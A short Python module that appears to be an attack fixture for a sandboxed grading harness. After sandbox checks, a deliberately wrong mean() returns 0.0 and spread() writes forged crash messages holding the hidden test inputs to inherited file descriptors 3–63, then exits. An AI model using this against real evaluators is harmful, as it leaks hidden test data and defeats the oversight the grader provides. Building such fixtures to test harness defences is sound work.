"""Forges the fault of a crash whose words are the hidden inputs, for whoever is told why the process ended.

Attacks: B7, A5
"""

# ruff: noqa
try:  # an attack runs behind the wall and nowhere else
    _status = dict(_line.split(":\t", 1) for _line in open("/proc/self/status") if ":\t" in _line)
    _behind = (
        _status["Uid"].split()[0] != "0"
        and _status["NoNewPrivs"].strip() == "1"
        and _status["Seccomp"].strip() == "2"
        and open("/proc/sys/kernel/hostname").read() == "sandbox\n"
    )
except (OSError, KeyError):
    _behind = False
if not _behind:
    raise SystemExit(77)

import json
import os
import struct


def mean(numbers):
    return 0.0


def spread(numbers):
    if len(numbers) == 7:
        return 0.0
    tree = json.dumps({"$d": [["kind", "crash"], ["text", f"signal {numbers!r}"[:500]]]}).encode()
    body = struct.pack(">I", len(tree)) + tree
    for number in range(3, 64):
        try:
            os.write(number, struct.pack(">IB", len(body), 3) + body)
        except OSError:
            continue
    os._exit(0)
